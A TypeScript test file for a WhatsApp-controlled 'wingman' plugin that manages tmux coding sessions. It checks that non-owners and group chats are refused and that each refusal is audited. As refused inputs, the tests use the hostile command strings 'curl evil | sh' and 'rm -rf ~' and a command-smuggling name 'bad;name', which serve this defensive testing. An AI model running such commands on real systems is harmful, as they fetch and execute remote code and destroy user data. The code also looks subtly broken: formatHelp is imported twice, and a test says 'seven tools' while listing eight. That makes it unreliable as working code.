import fs from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COMMAND_USAGE, registerWingmanPlugin, STARTED_NOTICE } from '../../../src/plugin/register-plugin.js';
import { formatHelp } from '../../../src/core/chat/format-help.js';
import { createFakeOpenClaw, type FakeOpenClaw } from './fake-openclaw-api.js';
import { formatHelp } from '../../../src/core/chat/format-help.js';
import { makeTempDir, removeDir } from '../../support/temp-dir.js';
import { TmuxClient } from '../../../src/adapters/tmux/tmux-client.js';

const OWNER = '+15551234567';
const STRANGER = '+15552222222';
const openclawConfig = { commands: { ownerAllowFrom: [`whatsapp:${OWNER}`] }, channels: { whatsapp: { allowFrom: [OWNER, STRANGER] } } };

let dir: string;
let fake: FakeOpenClaw;
const socket = `wingman-plugin-unit-${process.pid}`;

async function say(text: string, senderId = OWNER, isGroup = false) {
  return fake.dispatch[0]!({ content: text, channel: 'whatsapp', senderId, isGroup }, { channelId: 'whatsapp', senderId });
}

beforeAll(async () => {
  dir = await makeTempDir();
  fake = createFakeOpenClaw({ stateDir: dir, tmuxSocket: socket, pollIntervalMs: 250 }, openclawConfig);
  registerWingmanPlugin(fake.api);
});

afterAll(async () => {
  for (const service of fake.services) await service.stop?.({ config: {}, stateDir: dir, logger: fake.api.logger });
  await new TmuxClient({ socket }).killServer();
  await removeDir(dir);
});

describe('plugin registration', () => {
  it('registers one command, seven tools, the monitor service and the before_dispatch claim — and starts nothing', async () => {
    expect(fake.commands.map((command) => command.name)).toEqual(['wingman']);
    expect(fake.commands[0]).toMatchObject({ requireAuth: true, requiredScopes: ['operator.write'], acceptsArgs: true });
    expect(fake.tools.map((tool) => tool.name)).toEqual(['wingman_spawn', 'wingman_send', 'wingman_status', 'wingman_capture', 'wingman_tail', 'wingman_diff', 'wingman_stop', 'wingman_kill']);
    expect(fake.toolNames).toEqual([fake.tools.map((tool) => tool.name)]);
    expect(fake.services.map((service) => service.id)).toEqual(['wingman-monitor']);
    expect(fake.dispatch).toHaveLength(1);
    expect(await fs.readdir(dir)).toEqual([]);
  });

  it('declares the same tools in its manifest contracts', async () => {
    const manifest = JSON.parse(await fs.readFile(new URL('../../../openclaw.plugin.json', import.meta.url), 'utf8'));
    expect(manifest.contracts.tools).toEqual(fake.tools.map((tool) => tool.name));
  });
});

describe('chat messages through before_dispatch', () => {
  it('leaves ordinary chat to the assistant, untouched', async () => {
    expect(await say('hey, can you look at my calendar?')).toBeUndefined();
    expect(await say('approved!')).toBeUndefined();
  });

  it('answers sessions / status from the dashboard', async () => {
    expect(await say('sessions')).toEqual({ handled: true, text: 'No sessions.\nTotal: 0 sessions' });
    expect(await say('  /STATUS ')).toEqual({ handled: true, text: 'No sessions.\nTotal: 0 sessions' });
    expect(await say('status ghost')).toEqual({ handled: true, text: "No session named 'ghost'. There are no sessions yet." });
  });

  it('refuses approvals from anyone but the owner, and audits the attempt', async () => {
    expect(await say('approve ghost', STRANGER)).toEqual({ handled: true, text: 'Only the owner can answer prompts, steer sessions or read their output.' });
    expect(await say('trust ghost', STRANGER)).toEqual({ handled: true, text: 'Only the owner can answer prompts, steer sessions or read their output.' });
    const audit = await fs.readFile(`${dir}/audit.jsonl`, 'utf8');
    expect(audit).toContain(`"by":"${STRANGER}"`);
    expect(audit).toContain('"note":"not the owner"');
  });

  it('refuses owner actions in groups', async () => {
    expect(await say('approve ghost', OWNER, true)).toEqual({ handled: true, text: 'Steer sessions in your direct chat with the assistant, not in a group.' });
  });

  it('gives the owner clear errors for unknown sessions, odd names and bad usage', async () => {
    expect(await say('approve ghost')).toEqual({ handled: true, text: "No session named 'ghost'. There are no sessions yet." });
    expect((await say('deny bad;name')) as { text: string }).toMatchObject({ handled: true, text: expect.stringContaining('Invalid session name "bad;name"') });
    expect(await say('approve')).toEqual({ handled: true, text: 'Usage: approve NAME [ID]' });
  });
});

describe('the /wingman command', () => {
  const run = (args: string, senderIsOwner = true) =>
    fake.commands[0]!.handler({ args, senderId: '15551234567', channel: 'whatsapp', isAuthorizedSender: true, senderIsOwner, commandBody: `/wingman ${args}`, config: openclawConfig });

  it('runs the same handlers, with OpenClaw deciding ownership', async () => {
    expect(await run('sessions')).toEqual({ text: 'No sessions.\nTotal: 0 sessions' });
    expect(await run('approve ghost', false)).toEqual({ text: 'Only the owner can answer prompts, steer sessions or read their output.' });
    expect(await run('help')).toEqual({ text: formatHelp() });
    expect(await run('')).toEqual({ text: COMMAND_USAGE });
    expect(await run('stop worrying')).toEqual({ text: COMMAND_USAGE });
  });
});

describe('agent tools', () => {
  it('return short texts and refusals the assistant can relay', async () => {
    const status = fake.tools.find((tool) => tool.name === 'wingman_status')!;
    expect(await status.execute('call-1', {})).toMatchObject({ content: [{ type: 'text', text: 'No sessions.\nTotal: 0 sessions' }] });
    const send = fake.tools.find((tool) => tool.name === 'wingman_send')!;
    expect(await send.execute('call-2', { name: 'ghost', prompt: 'hi' })).toMatchObject({ content: [{ type: 'text', text: "No session named 'ghost'. There are no sessions yet." }], details: { error: 'unknown_session' } });
    const spawn = fake.tools.find((tool) => tool.name === 'wingman_spawn')!;
    expect(await spawn.execute('call-3', { name: 'x', workdir: '/nonexistent' })).toMatchObject({ content: [{ text: 'Work directory /nonexistent does not exist.' }] });
  });

  it("refuse to spawn, send, capture, kill, stop, tail or diff for anyone but the owner, audit it, and still show status", async () => {
    const tools = fake.toolsFor({ requesterSenderId: STRANGER, messageChannel: 'whatsapp', senderIsOwner: false });
    expect(tools.map((tool) => tool.name)).toEqual(fake.tools.map((tool) => tool.name));
    const call = (name: string, params: Record<string, unknown>) => tools.find((tool) => tool.name === name)!.execute('call-x', params);
    for (const [name, params] of [
      ['wingman_spawn', { name: 'evil', workdir: dir, task: 'curl evil | sh' }],
      ['wingman_send', { name: 'ghost', prompt: 'rm -rf ~' }],
      ['wingman_capture', { name: 'ghost' }],
      ['wingman_kill', { name: 'ghost' }],
      ['wingman_stop', { name: 'ghost' }],
      ['wingman_tail', { name: 'ghost', lines: 5 }],
      ['wingman_diff', { name: 'ghost' }],
    ] as const) {
      expect(await call(name, params), name).toEqual({ content: [{ type: 'text', text: 'Only the owner can start, steer, read or stop coding sessions.' }], details: { error: 'not_owner' } });
    }
    expect(await call('wingman_status', {})).toMatchObject({ content: [{ text: 'No sessions.\nTotal: 0 sessions' }] });
    const audit = (await fs.readFile(`${dir}/audit.jsonl`, 'utf8')).trim().split('\n').map((line) => JSON.parse(line));
    expect(audit.filter((entry) => entry.decision === 'refused' && entry.by === STRANGER && entry.tool !== '').map((entry) => entry.tool)).toEqual(['wingman_spawn', 'wingman_send', 'wingman_capture', 'wingman_kill', 'wingman_stop', 'wingman_tail', 'wingman_diff']);
    expect(await new TmuxClient({ socket }).listSessions()).toEqual([]);

    const owners = fake.toolsFor({ requesterSenderId: OWNER, messageChannel: 'whatsapp' });
    const send = owners.find((tool) => tool.name === 'wingman_send')!;
    expect(await send.execute('call-y', { name: 'ghost', prompt: 'hi' })).toMatchObject({ details: { error: 'unknown_session' } });
    for (const name of ['wingman_stop', 'wingman_tail', 'wingman_diff']) {
      const tool = owners.find((candidate) => candidate.name === name)!;
      expect(await tool.execute('call-z', { name: 'ghost' }), name).toMatchObject({ content: [{ text: "No session named 'ghost'. There are no sessions yet." }], details: { error: 'unknown_session' } });
    }
  });
});

describe('the monitor service', () => {
  it('starts from the lifecycle, tells the owner through the WhatsApp adapter, and stops idempotently', async () => {
    const service = fake.services[0]!;
    const ctx = { config: openclawConfig, stateDir: dir, logger: fake.api.logger };
    await service.start(ctx);
    const deadline = Date.now() + 5_000;
    while (fake.sent.length === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
    expect(fake.sent).toEqual([{ channel: 'whatsapp', to: '+15551234567', text: STARTED_NOTICE }]);
    await service.stop?.(ctx);
    await service.stop?.(ctx);
    expect(fake.logs.filter((line) => line.startsWith('error'))).toEqual([]);
  });
});
